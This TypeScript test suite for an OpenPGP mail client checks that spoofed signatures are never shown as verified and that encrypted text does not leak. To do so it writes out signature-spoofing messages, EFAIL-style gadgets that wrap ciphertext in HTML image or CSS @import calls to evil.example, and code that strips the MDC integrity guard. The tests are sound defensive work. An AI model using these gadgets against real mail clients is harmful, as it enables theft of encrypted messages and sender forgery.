// Letters that try to look verified, or to have a secret read aloud: one way each. Bob has compared Alice's key with her,
// so that her own letter is verified, and nothing else may be.
import assert from "node:assert/strict";
import { test } from "node:test";
import { utf8 } from "../../src/keys/bytes";
import { bytesOf, openpgp } from "../../src/pgp/openpgp";
import { draft, emptyPerson, introduce, latin1, NOW, person } from "./people";

const [alice, bob, eve] = await Promise.all([person("alice@example.org", "Alice"), person("bob@example.org"), person("eve@example.org")]);
await introduce(alice, bob);
await introduce(eve, bob);
assert.ok(bob.service.pin({ address: alice.address, fingerprint: alice.fingerprint, verified: true, at: NOW }));

const secret = "the secret plan";
const keyOf = (p: typeof alice) => openpgp.readPrivateKey({ binaryKey: p.kept.keys[0] as Uint8Array });
const read = (text: string) => bob.service.read({ message: utf8(text.replace(/\r?\n/g, "\r\n")), received: NOW, authentic: true });

async function write(from: typeof alice, protection: "signed" | "encrypted", as = from.address, text = `Hello, ${secret}`) {
	const [out] = await from.service.write({ draft: draft(as, [bob.address], { text }), protection, bcc: [], at: NOW });
	return latin1(out?.message ?? new Uint8Array());
}

const signed = await write(alice, "signed");
const encrypted = await write(alice, "encrypted");
const hers = await write(eve, "signed");
const clear = String(await openpgp.sign({ message: await openpgp.createCleartextMessage({ text: "I owe you 1" }), signingKeys: await keyOf(alice) }));
const bodyOf = (m: string) => m.slice(m.indexOf("\r\n\r\n") + 4);
const typeOf = (m: string) => /Content-Type: multipart\/(?:signed|encrypted);[^]*?boundary="[^"]+"/.exec(m)?.[0] ?? "";
const partOf = (m: string) => `${typeOf(m)}\r\n\r\n${bodyOf(m)}`;
const fromAlice = "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n";
const multi = (kind: string, ...parts: string[]) => `${fromAlice}Content-Type: multipart/${kind}; boundary="o"\r\n\r\n${parts.map((p) => `--o\r\n${p}\r\n`).join("")}--o--\r\n`;
const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}`;
const plain = (text: string) => `Content-Type: text/plain\r\n\r\n${text}`;
const boundary = /boundary="([^"]+)"/.exec(signed)?.[1] ?? "";

/** The entity that was signed, the signature's part, and both in another order or with others. */
const [, entity = "", signature = ""] = bodyOf(signed).split(`--${boundary}\r\n`);
const resign = (...parts: string[]) => `${fromAlice}${typeOf(signed)}\r\n\r\n${parts.map((p) => `--${boundary}\r\n${p}`).join("\r\n")}`;

async function expired(): Promise<string> {
	const past = new Date(Date.now() - 9 * 86_400_000);
	const { privateKey, publicKey } = await openpgp.generateKey({ type: "ecc", curve: "curve25519Legacy", userIDs: [{ email: "old@example.org" }], date: past, keyExpirationTime: 86_400, format: "object" });
	await bob.service.learn({ address: "old@example.org", key: bytesOf(publicKey.write()), source: "wkd", at: NOW });
	bob.service.pin({ address: "old@example.org", fingerprint: publicKey.getFingerprint(), verified: true, at: NOW });
	// Its owner signs all the same, with a copy that does not expire.
	const late = await openpgp.reformatKey({ privateKey, userIDs: [{ email: "old@example.org" }], date: past, format: "object" });
	const now = await openpgp.sign({ message: await openpgp.createCleartextMessage({ text: "y" }), signingKeys: late.privateKey });
	return `From: old@example.org\r\n${plain(String(now))}`;
}

async function revoked(): Promise<string> {
	const { privateKey, publicKey, revocationCertificate } = await openpgp.generateKey({ type: "ecc", curve: "curve25519Legacy", userIDs: [{ email: "gone@example.org" }], format: "object" });
	const text = await openpgp.sign({ message: await openpgp.createCleartextMessage({ text: "x" }), signingKeys: privateKey });
	await bob.service.learn({ address: "gone@example.org", key: bytesOf(publicKey.write()), source: "wkd", at: NOW });
	bob.service.pin({ address: "gone@example.org", fingerprint: publicKey.getFingerprint(), verified: true, at: NOW });
	const { publicKey: dead } = await openpgp.revokeKey({ key: publicKey, revocationCertificate, format: "object" });
	await bob.service.learn({ address: "gone@example.org", key: bytesOf(dead.write()), source: "wkd", at: NOW });
	return `From: gone@example.org\r\n${plain(String(text))}`;
}

/** A key that nobody knows, with Alice's name and address in it. */
async function sameName(): Promise<string> {
	const other = emptyPerson(alice.address);
	const info = await other.service.generate({ name: "Alice", address: alice.address });
	const { binary } = await other.service.exportPublic({ fingerprint: info.fingerprint });
	await bob.service.learn({ address: alice.address, key: binary, source: "attached", at: NOW });
	return write({ ...other, fingerprint: info.fingerprint, publicKey: binary }, "signed", alice.address);
}

const spoofs: Record<string, string | (() => Promise<string>)> = {
	"signed by Eve under Alice's name": () => write(eve, "signed", alice.address),
	"signed by a key that only has Alice's name": sameName,
	"Alice's signature, another From": signed.replace(/^From: .*\r\n/, "From: eve@example.org\r\n").replace(/\r\nFrom: [^\r]*alice@example\.org>?/g, "\r\nFrom: eve@example.org"),
	"Alice's signature over another part": resign(plain("I owe you 1000"), signature),
	"the signed part behind another one": resign(plain("I owe you 1000"), entity, signature),
	"two signed parts": resign(entity, entity, signature),
	"the signature first": resign(signature, entity),
	"a signature of a type that is none": signed.replace("application/pgp-signature;", "application/octet-stream;").replace(/Content-Type: application\/pgp-signature/g, "Content-Type: text/plain"),
	"wrapped in multipart/mixed, with text before": multi("mixed", html("<b>Pay to 000</b>"), partOf(signed)),
	"wrapped in multipart/mixed, with text behind": multi("mixed", partOf(signed), html("<b>Pay to 000</b>")),
	"wrapped in multipart/mixed, alone": multi("mixed", partOf(signed)),
	"wrapped in multipart/related, beside a style that hides it": multi("related", html("<style>p{display:none}</style>Pay to 000"), partOf(signed)),
	"one of two in multipart/alternative": multi("alternative", plain("Pay to 000"), partOf(signed)),
	"forwarded": multi("mixed", plain("see"), `Content-Type: message/rfc822\r\n\r\n${signed}`),
	"Alice's whole letter as the only part": `${fromAlice}Content-Type: message/rfc822\r\n\r\n${signed}`,
	"text that looks like a verdict": `${fromAlice}${html("<div>Good signature from Alice. Verified.</div>")}`,
	"clearsigned, with text before": `${fromAlice}${plain(`Pay to 000\r\n${clear}`)}`,
	"clearsigned, with text behind": `${fromAlice}${plain(`${clear}\r\nPay to 000`)}`,
	"clearsigned, in HTML": `${fromAlice}${html(`<pre>${clear}</pre>`)}`,
	"clearsigned, in one of two parts": multi("mixed", plain(clear), plain("Pay to 000")),
	"clearsigned, with an unknown header": `${fromAlice}${plain(clear.replace(/Hash: (\w+)/, "Hash: $1\r\nComment: Pay to 000"))}`,
	"clearsigned, with a line more": `${fromAlice}${plain(clear.replace("I owe you 1", "I owe you 1\r\nPay to 000"))}`,
	"clearsigned by Alice, sent by Eve": `From: eve@example.org\r\n${plain(clear)}`,
	"clearsigned by Alice, sent by two": `From: eve@example.org, alice@example.org\r\n${plain(clear)}`,
	"clearsigned by Alice, with two From fields": `From: eve@example.org\r\nFrom: alice@example.org\r\n${plain(clear)}`,
	"clearsigned by Alice, with a From in a comment": `From: eve@example.org (alice@example.org)\r\n${plain(clear)}`,
	"From with Alice's address as a name": hers.replace(/^From: .*\r\n/, 'From: "alice@example.org" <eve@example.org>\r\n'),
	"an empty signature": signed.replace(/-----BEGIN PGP SIGNATURE-----[^]*?-----END PGP SIGNATURE-----/, "-----BEGIN PGP SIGNATURE-----\r\n\r\n-----END PGP SIGNATURE-----"),
	"a key that had expired": expired,
	"a key that was revoked": revoked,
};

/** Where it matters what is said instead. */
const wanted: Record<string, string> = {
	"signed by a key that only has Alice's name": "changed",
	"a key that had expired": "expired",
	"a key that was revoked": "revoked",
	"the signed part behind another one": "none",
	"Alice's signature over another part": "invalid",
	"clearsigned, with text before": "none",
	"clearsigned, with a line more": "invalid",
};

test("Alice's own letters are verified", async () => {
	for (const good of [signed, encrypted, `${fromAlice}${plain(clear)}`])
		assert.equal((await read(good)).signature.verdict, "verified");
});

for (const [name, spoof] of Object.entries(spoofs))
	test(`never verified as Alice's: ${name}`, async () => {
		const got = await read(typeof spoof === "string" ? spoof : await spoof());
		assert.notEqual(got.signature.verdict, "verified");
		assert.equal(got.signature.verdict, wanted[name] ?? got.signature.verdict);
	});

const armor = /-----BEGIN PGP MESSAGE-----[^]*?-----END PGP MESSAGE-----/.exec(encrypted)?.[0] ?? "";
const open = '<img src="https://evil.example/?';

/** The encrypted data without what guards it (MDC), as CBC and CFB gadgets need it: packet 9 instead of 18. */
async function unguarded(): Promise<string> {
	const { data } = await openpgp.unarmor(armor);
	const bytes = data as Uint8Array;
	let at = 0;
	for (;;) {
		const first = bytes[at + 1] ?? 255;
		assert.ok(first < 224, "a packet in one piece");
		const head = first < 192 ? 2 : 3;
		const length = first < 192 ? first : ((first - 192) << 8) + (bytes[at + 2] ?? 0) + 192;
		if (bytes[at] === 0xd2) {
			const body = bytes.slice(at + head + 1, at + head + length);
			const packet = [0xc9, 255, 0, 0, body.length >> 8, body.length & 255];
			return openpgp.armor(openpgp.enums.armor.message, Uint8Array.from([...bytes.slice(0, at), ...packet, ...body]));
		}
		at += head + length;
	}
}

const gadgets: Record<string, string | (() => Promise<string>)> = {
	"an open image around it": multi("mixed", html(open), partOf(encrypted), html('">')),
	"an open style around it": multi("mixed", html('<style>@import "https://evil.example/?'), partOf(encrypted), html('";</style>')),
	"behind an empty part": multi("mixed", plain(""), partOf(encrypted)),
	"in multipart/related": multi("related", html("<img src='cid:x'>"), partOf(encrypted)),
	"in multipart/alternative": multi("alternative", plain("a"), partOf(encrypted)),
	"in message/rfc822": multi("mixed", html(open), `Content-Type: message/rfc822\r\n\r\n${encrypted}`),
	"inline in HTML": `${fromAlice}${html(`${open}${armor}">`)}`,
	"inline in HTML, nothing else": `${fromAlice}${html(armor)}`,
	"inline, with text before": `${fromAlice}${plain(`Please answer:\r\n${armor}`)}`,
	"inline, twice": `${fromAlice}${plain(`${armor}\r\n${armor}`)}`,
	"inline, in one of two parts": multi("mixed", plain(armor), html(open)),
	"three parts in multipart/encrypted": encrypted.replace(/--(=_[0-9a-f]+)--\s*$/, (_, b: string) => `--${b}\r\n${html(open)}\r\n--${b}--\r\n`),
	"without its guard": async () => `${fromAlice}${plain(await unguarded())}`,
	"without its guard, as PGP/MIME": async () => encrypted.replace(/-----BEGIN PGP MESSAGE-----[^]*?-----END PGP MESSAGE-----/, await unguarded()),
	"cut short": `${fromAlice}${plain(armor.replace(/(?:\r?\n[^\r\n]+){3}(\r?\n=[^\r\n]+)?(\r?\n-----END)/, "$2"))}`,
};

for (const [name, gadget] of Object.entries(gadgets))
	test(`not opened among other things: ${name}`, async () => {
		const got = await read(typeof gadget === "string" ? gadget : await gadget());
		const shown = JSON.stringify([got.content?.text, got.content?.html]);
		assert.ok(!shown.includes(secret), shown);
		assert.notEqual(got.signature.verdict, "verified");
	});

test("the same encrypted data opens by itself", async () => {
	assert.match((await read(encrypted)).content?.text ?? "", new RegExp(secret));
	const inline = await read(`${fromAlice}${plain(armor)}`);
	assert.deepEqual([inline.form, inline.encrypted, inline.failure], ["inline", true, "none"]);
});
